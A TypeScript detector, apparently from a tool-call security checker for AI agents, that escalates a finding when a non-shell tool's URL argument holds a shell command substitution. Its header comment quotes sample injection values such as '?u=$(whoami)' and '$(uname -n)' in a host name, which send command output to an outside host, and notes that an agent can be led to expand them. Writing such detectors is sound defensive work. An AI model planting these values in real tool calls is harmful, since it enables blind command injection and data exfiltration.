/** A shell substitution inside an address argument (round 19): `icon_url: http://IP/i.png?u=$(whoami)`,
 * `https://$(uname -n).cdn.example/f`, backticks in a mirror address. The command form (`curl ...$(hostname)`) is
 * judged by the shell parse; in a tool's address the substitution was read as text. Whoever expands it -- the
 * server behind the tool, a template step, the agent told to "fill it in" -- sends the command's output to the
 * host: the out-of-band probe of command injection. Template fields (`${VERSION}`, `{{id}}`, `$USER`) pass.
 * Sources: PortSwigger Web Security Academy, blind OS command injection with out-of-band exfiltration; OWASP
 * Command Injection; Equixly, MCP server security (2025). */

import type { Findings } from "./findings.ts";
import { payloadStrings } from "./payload_strings.ts";

/** A whole value that is one address, substitutions (which may hold spaces) included. */
const WHOLE_ADDRESS = /^(?:https?|ftp|wss?):\/\/(?:[^\s"'<>$`]|\$\([^()\n]{1,200}\)|`[^`\n]{1,200}`|\$)+$/i;
/** A substitution whose inside starts with a command word. */
const COMMAND_SUBSTITUTION = /\$\(\s*[A-Za-z_][\w.-]*(?:\s[^()\n]*)?\)|`\s*[A-Za-z_][\w.-]*(?:\s[^`\n]*)?`/;

/** An address argument of a tool that is no command line, carrying a command substitution. */
export function judgeAddressSubstitutions(
  tool: string,
  commandTool: boolean,
  payload: Record<string, unknown>,
  findings: Findings,
): void {
  if (commandTool) return;
  for (const { key, value } of payloadStrings(payload)) {
    if (value.length > 4096 || (!value.includes("$(") && !value.includes("`"))) continue;
    const address = value.trim();
    if (!WHOLE_ADDRESS.test(address) || !COMMAND_SUBSTITUTION.test(address)) continue;
    findings.escalate(
      "network",
      `"${tool}" has a command substitution in the address of its "${key || "payload"}" argument`,
    );
    return;
  }
}
